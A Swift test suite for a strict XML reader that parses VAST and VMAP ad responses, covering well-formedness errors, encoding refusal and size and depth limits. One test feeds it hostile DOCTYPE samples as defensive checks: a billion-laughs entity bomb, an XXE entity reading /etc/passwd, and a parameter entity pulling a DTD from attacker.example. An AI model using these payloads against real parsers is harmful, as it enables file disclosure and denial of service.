import ManifestCore
import StrictXML
import Testing

/// The reader on documents as ad servers write them, and on each well-formedness rule.
@Suite struct StrictXMLReaderTests {
  static func read(_ text: String, limits: Limits = .standard, depth: Int = 128) throws
    -> XMLTreeElement
  {
    try StrictXMLReader.read(Array(text.utf8), limits: limits, maximumDepth: depth)
  }

  /// The error reading `bytes` as `code line:column message`, or `nil` when it reads.
  static func failure(_ bytes: [UInt8], limits: Limits = .standard, depth: Int = 128) -> String? {
    do {
      _ = try StrictXMLReader.read(bytes, limits: limits, maximumDepth: depth)
      return nil
    } catch {
      return "\(error.code) \(error.location.line):\(error.location.column) \(error.message)"
    }
  }

  static func failure(_ text: String, limits: Limits = .standard, depth: Int = 128) -> String? {
    failure(Array(text.utf8), limits: limits, depth: depth)
  }

  /// A VAST 4 inline response head as Google Ad Manager writes it: declaration, default
  /// namespace, CDATA URLs padded with white space, a comment between elements.
  @Test func readsElementsAttributesNamespacesAndCDATA() throws {
    let root = try Self.read(
      """
      <?xml version="1.0" encoding="UTF-8"?>
      <VAST xmlns="http://www.iab.com/VAST" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" version="4.2">
        <!-- served by gam -->
        <Ad id="697200496" sequence='1'>
          <Impression><![CDATA[ https://securepubads.g.doubleclick.net/pcs/view?xai=AKAOj&sai=1 ]]></Impression>
          <AdTitle>Caf\u{E9} &amp; &lt;bar&gt; &#x1F600;&#38;</AdTitle>
        </Ad>
      </VAST>
      """)
    #expect(root.name == XMLTreeName(localName: "VAST", namespace: "http://www.iab.com/VAST"))
    #expect(root.location == SourceLocation(line: 2, column: 1, offset: 39))
    #expect(root.attributes.map(\.name.qualifiedName) == ["xmlns", "xmlns:xsi", "version"])
    #expect(root.attributes[1].name.namespace == "http://www.w3.org/2000/xmlns/")
    #expect(root.attribute("version") == "4.2")
    let ad = try #require(root.firstElement(named: "Ad"))
    #expect(ad.location.line == 4)
    #expect(ad.location.column == 3)
    #expect(ad.attribute("sequence") == "1")
    #expect(ad.name.namespace == "http://www.iab.com/VAST")
    let impression = try #require(ad.firstElement(named: "Impression"))
    #expect(
      impression.text == " https://securepubads.g.doubleclick.net/pcs/view?xai=AKAOj&sai=1 ")
    #expect(
      impression.trimmedText == "https://securepubads.g.doubleclick.net/pcs/view?xai=AKAOj&sai=1")
    #expect(ad.firstElement(named: "AdTitle")?.text == "Caf\u{E9} & <bar> \u{1F600}&")
    #expect(root.elements.count == 1)
  }

  /// Text and CDATA next to each other, with a comment between, are one text node.
  @Test func textCDATAAndCommentsJoinIntoOneTextNode() throws {
    let root = try Self.read("<a>x<!-- c --><![CDATA[<y>]]>z<?pi data?>w<b/>v</a>")
    #expect(root.children.count == 3)
    #expect(root.children[0] == .text("x<y>zw"))
    #expect(root.children[2] == .text("v"))
  }

  /// Prefixed names keep their prefix and resolve it; a default namespace does not apply to
  /// attributes (Namespaces in XML 1.0 §6.2); `xml:` is predefined; scopes end with the element.
  @Test func namespacesResolveInScope() throws {
    let root = try Self.read(
      """
      <vmap:VMAP xmlns:vmap="http://www.iab.net/videosuite/vmap" version="1.0"><vmap:AdBreak \
      xml:lang="en" breakId="pre"><VAST xmlns="urn:v" v:x="1" xmlns:v="urn:w"/></vmap:AdBreak>\
      <Plain/></vmap:VMAP>
      """)
    #expect(root.name.prefix == "vmap")
    #expect(root.name.localName == "VMAP")
    #expect(root.name.namespace == "http://www.iab.net/videosuite/vmap")
    let adBreak = try #require(root.firstElement(named: "AdBreak"))
    #expect(adBreak.attributes[0].name.namespace == "http://www.w3.org/XML/1998/namespace")
    #expect(adBreak.attributes[1].name == XMLTreeName(localName: "breakId"))
    let vast = try #require(adBreak.firstElement(named: "VAST"))
    #expect(vast.name.namespace == "urn:v")
    #expect(vast.attributes[1].name == XMLTreeName(prefix: "v", localName: "x", namespace: "urn:w"))
    #expect(root.firstElement(named: "Plain")?.name.namespace == "")
  }

  /// XML 1.0 §2.11: CR LF and a lone CR each end one line, for locations and in text.
  @Test func crlfAndCRCountAsOneLineEach() throws {
    let root = try Self.read("<a>\r\n<b>1\r2</b>\r\n\r<c x=\"p\rq\r\nr\"/></a>")
    #expect(
      root.firstElement(named: "b")?.location == SourceLocation(line: 2, column: 1, offset: 5))
    #expect(root.firstElement(named: "b")?.text == "1\n2")
    #expect(
      root.firstElement(named: "c")?.location == SourceLocation(line: 5, column: 1, offset: 18))
    #expect(root.firstElement(named: "c")?.attribute("x") == "p q r")
    #expect(
      Self.failure("<a>\r\n\r\n  <b></c></a>")
        == "xml.not-well-formed 3:6 Opening and ending tag mismatch: b line 3 and c")
  }

  /// Attribute values are normalised (§3.3.3): literal tab and line feed become spaces,
  /// character references keep the character.
  @Test func attributeValuesAreNormalised() throws {
    let root = try Self.read("<a v=\"x\ty\nz&#10;&#9;&quot;&apos;\" w='\"'/>")
    #expect(root.attribute("v") == "x y z\n\t\"'")
    #expect(root.attribute("w") == "\"")
  }

  /// A byte-order mark is accepted; line 1 column 1 is the byte after it.
  @Test func byteOrderMarkIsSkipped() throws {
    let root = try StrictXMLReader.read([0xEF, 0xBB, 0xBF] + Array("<VAST/>".utf8))
    #expect(root.location == SourceLocation(line: 1, column: 1, offset: 3))
    #expect(
      Self.failure([0xEF, 0xBB, 0xBF] + Array("<a>&x;</a>".utf8))
        == "xml.undeclared-entity 1:4 Entity 'x' not defined")
  }

  @Test(
    arguments: [
      ("", "xml.not-well-formed 1:1 Document is empty"),
      ("  \n ", "xml.not-well-formed 2:2 Document is empty"),
      ("just text", "xml.not-well-formed 1:1 Start tag expected, '<' not found"),
      (
        "<a>",
        "xml.not-well-formed 1:4 the document ends before its elements are closed (1 still open); is the file truncated?"
      ),
      (
        "<a><b></b>",
        "xml.not-well-formed 1:11 the document ends before its elements are closed (1 still open); is the file truncated?"
      ),
      ("<a/><b/>", "xml.not-well-formed 1:5 Extra content at the end of the document"),
      ("<a/>text", "xml.not-well-formed 1:5 Extra content at the end of the document"),
      ("<a/></a>", "xml.not-well-formed 1:5 Extra content at the end of the document"),
      (
        "<a>\n <p></span></a>",
        "xml.not-well-formed 2:5 Opening and ending tag mismatch: p line 2 and span"
      ),
      ("<a></a >", nil),
      ("<a></a x>", "xml.not-well-formed 1:8 EndTag: '</' not terminated by '>'"),
      ("<1a/>", "xml.not-well-formed 1:2 StartTag: invalid element name"),
      ("<a></1>", "xml.not-well-formed 1:6 EndTag: invalid element name"),
      ("<a b='1'c='2'/>", "xml.not-well-formed 1:9 attributes construct error"),
      ("<a b/>", "xml.not-well-formed 1:5 Specification mandates value for attribute b"),
      ("<a b=1/>", "xml.not-well-formed 1:6 AttValue: \" or ' expected"),
      ("<a b='1' b='2'/>", "xml.not-well-formed 1:10 Attribute b redefined"),
      ("<a b='<'/>", "xml.not-well-formed 1:7 Unescaped '<' not allowed in attributes values"),
      ("<a b='1", "xml.not-well-formed 1:8 AttValue: ' expected"),
      ("<a b='1'", "xml.not-well-formed 1:9 Couldn't find end of Start Tag a line 1"),
      ("<a/ >", "xml.not-well-formed 1:3 expected '>' after '/' in a start tag"),
      ("<a>&nbsp;</a>", "xml.undeclared-entity 1:4 Entity 'nbsp' not defined"),
      ("<a>& b</a>", "xml.not-well-formed 1:4 xmlParseEntityRef: no name"),
      ("<a>&amp b</a>", "xml.not-well-formed 1:8 EntityRef: expecting ';'"),
      (
        "<a>&#0;</a>",
        "xml.not-well-formed 1:4 character reference '&#0;' names a character XML does not allow"
      ),
      (
        "<a>&#xD800;</a>",
        "xml.not-well-formed 1:4 character reference '&#xD800;' names a character XML does not allow"
      ),
      (
        "<a>&#x110000;</a>",
        "xml.not-well-formed 1:4 character reference '&#x110000;' names a character XML does not allow"
      ),
      (
        "<a>&#99999999999999999999;</a>",
        "xml.not-well-formed 1:4 character reference '&#99999999999999999999;' names a character XML does not allow"
      ),
      ("<a>&#;</a>", "xml.not-well-formed 1:4 xmlParseCharRef: invalid decimal value"),
      ("<a>&#xZ;</a>", "xml.not-well-formed 1:4 xmlParseCharRef: invalid hexadecimal value"),
      ("<a>]]></a>", "xml.not-well-formed 1:4 Sequence ']]>' not allowed in content"),
      ("<a><![CDATA[x</a>", "xml.not-well-formed 1:4 CData section not finished"),
      ("<a><!-- a -- b --></a>", "xml.not-well-formed 1:11 Double hyphen within comment"),
      ("<a><!-- x </a>", "xml.not-well-formed 1:4 Comment not terminated"),
      ("<a><?pi x</a>", "xml.not-well-formed 1:4 PI pi never end ..."),
      ("<a><? x?></a>", "xml.not-well-formed 1:6 xmlParsePI : no target name"),
      (
        "<a/><?xml version='1.0'?>",
        "xml.not-well-formed 1:5 XML declaration allowed only at the start of the document"
      ),
      (
        " <?xml version='1.0'?><a/>",
        "xml.not-well-formed 1:2 XML declaration allowed only at the start of the document"
      ),
      (
        "<?xml encoding='UTF-8'?><a/>",
        "xml.not-well-formed 1:7 Malformed declaration expecting version"
      ),
      (
        "<?xml version='2.0'?><a/>",
        "xml.not-well-formed 1:16 the XML declaration names version '2.0', not 1.x"
      ),
      (
        "<?xml version='1.0' standalone='maybe'?><a/>",
        "xml.not-well-formed 1:33 standalone accepts only 'yes' or 'no'"
      ),
      (
        "<?xml version='1.0' foo='1'?><a/>",
        "xml.not-well-formed 1:21 parsing XML declaration: 'foo' is not expected here"
      ),
      (
        "<?xml version='1.0' standalone='yes' encoding='UTF-8'?><a/>",
        "xml.not-well-formed 1:38 parsing XML declaration: 'encoding' is not expected here"
      ),
      (
        "<?xml version='1.0'encoding='UTF-8'?><a/>",
        "xml.not-well-formed 1:20 parsing XML declaration: '?>' expected"
      ),
      ("<?xml version='1.0' encoding='UTF-8' standalone='no' ?><a/>", nil),
      ("<x:a/>", "xml.undeclared-prefix 1:2 Namespace prefix x on x:a is not defined"),
      (
        "<a x:b='1'/>",
        "xml.undeclared-prefix 1:4 Namespace prefix x on b is not defined (attribute of a)"
      ),
      (
        "<a xmlns:x='urn:1' xmlns:y='urn:1' x:b='1' y:b='2'/>",
        "xml.not-well-formed 1:44 Namespaced Attribute b in 'urn:1' redefined"
      ),
      ("<a xmlns:x=''/>", "xml.not-well-formed 1:4 xmlns:x: Empty XML namespace is not allowed"),
      ("<a:b:c xmlns:a='urn:a'/>", "xml.not-well-formed 1:2 Failed to parse QName 'a:b:c'"),
      ("<xmlns:a/>", "xml.not-well-formed 1:2 the prefix xmlns is reserved and names no element"),
      ("<a>\u{1}</a>", "xml.not-well-formed 1:4 Char 0x1 out of allowed range"),
      ("<a>\u{FFFE}</a>", "xml.not-well-formed 1:4 Char 0xFFFE out of allowed range"),
    ] as [(String, String?)])
  func wellFormedness(input: String, expected: String?) {
    #expect(Self.failure(input) == expected, "\(input)")
  }

  /// Bytes that are not UTF-8: a Latin-1 byte, an overlong form, a surrogate, a cut sequence.
  @Test func bytesThatAreNotUTF8AreRefused() {
    let tail = "); only UTF-8 is read for untrusted XML"
    #expect(
      Self.failure(Array("<a>caf".utf8) + [0xE9] + Array("</a>".utf8))
        == "xml.encoding 1:7 the document is not UTF-8 (bytes 0xE9 0x3C 0x2F 0x61" + tail)
    #expect(
      Self.failure(Array("<a>".utf8) + [0xC0, 0xAF] + Array("</a>".utf8))
        == "xml.encoding 1:4 the document is not UTF-8 (bytes 0xC0 0xAF 0x3C 0x2F" + tail)
    #expect(
      Self.failure(Array("<a>".utf8) + [0xED, 0xA0, 0x80] + Array("</a>".utf8))
        == "xml.encoding 1:4 the document is not UTF-8 (bytes 0xED 0xA0 0x80 0x3C" + tail)
    #expect(
      Self.failure(Array("<a/>".utf8) + [0xF0, 0x9F])
        == "xml.encoding 1:5 the document is not UTF-8 (bytes 0xF0 0x9F" + tail)
  }

  /// Only UTF-8 is read: a declaration naming another encoding, and UTF-16 by its byte-order
  /// mark or its first characters, are refused.
  @Test func otherEncodingsAreRefused() {
    #expect(
      Self.failure("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><VAST/>")
        == "xml.unsupported-encoding 1:31 the document declares encoding 'ISO-8859-1', which is not read "
        + "for untrusted XML (use UTF-8)")
    #expect(Self.failure("<?xml version=\"1.0\" encoding=\"utf-8\"?><VAST/>") == nil)
    #expect(Self.failure("<?xml version=\"1.0\" encoding=\"US-ASCII\"?><VAST/>") == nil)
    let utf16 =
      "xml.unsupported-encoding 1:1 the document is in UTF-16 or UCS-4, which is not read "
      + "for untrusted XML here; convert it to UTF-8"
    #expect(Self.failure([0xFF, 0xFE, 0x3C, 0x00, 0x61, 0x00, 0x2F, 0x00, 0x3E, 0x00]) == utf16)
    #expect(Self.failure([0x3C, 0x00, 0x3F, 0x00, 0x78, 0x00]) == utf16)
  }

  /// Any DOCTYPE is refused where it starts, before its subset is looked at: billion laughs,
  /// external entities (XXE), parameter entities and a harmless DTD alike.
  @Test func doctypeIsRefused() {
    let refused =
      "xml.doctype 2:1 DOCTYPE declarations are not allowed: DTDs, entity declarations "
      + "and external entities are disabled for untrusted XML"
    let laughs = """
      <?xml version="1.0"?>
      <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\
      <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
      <VAST>&lol3;</VAST>
      """
    #expect(Self.failure(laughs) == refused)
    let xxe = """
      <?xml version="1.0"?>
      <!DOCTYPE VAST [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
      <VAST><Ad id="&xxe;"/></VAST>
      """
    #expect(Self.failure(xxe) == refused)
    let parameter = """
      <?xml version="1.0"?>
      <!DOCTYPE VAST [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
      <VAST/>
      """
    #expect(Self.failure(parameter) == refused)
    #expect(Self.failure("<!-- c -->\n<!DOCTYPE VAST SYSTEM \"vast.dtd\"><VAST/>") == refused)
    #expect(Self.failure("<VAST/>\n<!DOCTYPE VAST>") == refused)
    #expect(Self.failure("<VAST>\n<!DOCTYPE VAST></VAST>") == refused)
    // Without a DOCTYPE, an entity reference is simply undeclared.
    #expect(
      Self.failure("<VAST>&xxe;</VAST>") == "xml.undeclared-entity 1:7 Entity 'xxe' not defined")
  }

  /// Nesting is bounded: the root is depth 1; the error is at the start tag one level too deep.
  @Test func depthIsBounded() throws {
    let deep = String(repeating: "<a>", count: 128) + String(repeating: "</a>", count: 128)
    #expect(Self.failure(deep) == nil)
    let deeper = String(repeating: "<a>", count: 129) + String(repeating: "</a>", count: 129)
    #expect(
      Self.failure(deeper) == "xml.depth-limit 1:385 elements are nested deeper than 128 levels")
    #expect(
      Self.failure("<a><b><c/></b></a>", depth: 2)
        == "xml.depth-limit 1:7 elements are nested deeper than 2 levels")
    // A million unclosed start tags stop at the limit, not at the end of the input.
    let million = String(repeating: "<a>", count: 1_000_000)
    #expect(Self.failure(million)?.hasPrefix("xml.depth-limit 1:385 ") == true)
  }

  /// The attribute count is `Limits.xmlAttributes`, namespace declarations included, reported
  /// at the element's start tag like XMLSupport's.
  @Test func attributeCountIsBounded() {
    var limits = Limits.standard
    limits.xmlAttributes = 2
    #expect(Self.failure("<a x='1' xmlns:p='urn:p'/>", limits: limits) == nil)
    #expect(
      Self.failure("<r>\n <a x='1' y='2' z='3'/></r>", limits: limits)
        == "limit.xml-attributes 2:2 an element has more than 2 attributes (limit xml-attributes=2) "
        + "[limit.xml-attributes]")
    // The default, 1000: 1000 distinct attributes read, 1001 do not.
    let many = (0..<1000).map { " a\($0)='\($0)'" }.joined()
    #expect(Self.failure("<a\(many)/>") == nil)
    #expect(Self.failure("<a\(many) b='1'/>")?.hasPrefix("limit.xml-attributes 1:1 ") == true)
    let fewer = (0..<999).map { " a\($0)='\($0)'" }.joined()
    #expect(
      Self.failure("<a\(fewer) a5='5'/>") == "xml.not-well-formed 1:10773 Attribute a5 redefined")
  }

  /// The tree is bounded: elements, attributes and text nodes count, and a document of a
  /// million empty elements stops at the bound rather than building 100 MB of tree.
  @Test func nodeCountIsBounded() throws {
    let five = "<a b='1'>t<c/></a>"  // a, b, t, c
    #expect(try StrictXMLReader.read(Array(five.utf8), maximumNodes: 4).elements.count == 1)
    let refused =
      "xml.node-limit 1:11 the document has more than 3 elements, attributes and text "
      + "nodes, more than this reader builds a tree of"
    do {
      _ = try StrictXMLReader.read(Array(five.utf8), maximumNodes: 3)
      Issue.record("read")
    } catch {
      #expect(
        "\(error.code) \(error.location.line):\(error.location.column) \(error.message)" == refused)
    }
    let million = "<r>" + String(repeating: "<a/>", count: 1_000_001) + "</r>"
    #expect(Self.failure(million)?.hasPrefix("xml.node-limit 1:4000000 ") == true)
  }

  /// The input is bounded by `Limits.inputBytes` before it is read.
  @Test func inputSizeIsBounded() {
    var limits = Limits.standard
    limits.inputBytes = 8
    #expect(Self.failure("<VAST/>", limits: limits) == nil)
    #expect(
      Self.failure("<VAST></VAST>", limits: limits)
        == "limit.input-bytes 1:1 the document is 13 bytes long (limit input-bytes=8) "
        + "[limit.input-bytes]")
  }
}
